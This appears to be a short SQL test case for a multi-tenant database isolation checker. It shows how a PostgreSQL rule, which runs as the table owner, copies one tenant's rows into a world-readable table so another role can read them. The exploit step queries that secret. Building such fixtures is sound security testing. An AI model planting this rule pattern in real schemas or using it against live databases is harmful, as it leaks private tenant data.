-- A rule runs as the owner of its table, and writes into a copy that everybody may read.
-- object: public.items
-- object: public.item_feed
-- base: uuid
--- setup
CREATE TABLE item_feed (id uuid, title text);
GRANT SELECT ON item_feed TO {app};
--- leak
CREATE RULE feed AS ON INSERT TO items DO ALSO INSERT INTO item_feed VALUES (NEW.id, NEW.title);
--- victim
INSERT INTO items (tenant_id, title) VALUES ('{B}', 'secret of b');
--- exploit
SELECT title FROM item_feed WHERE title = 'secret of b';
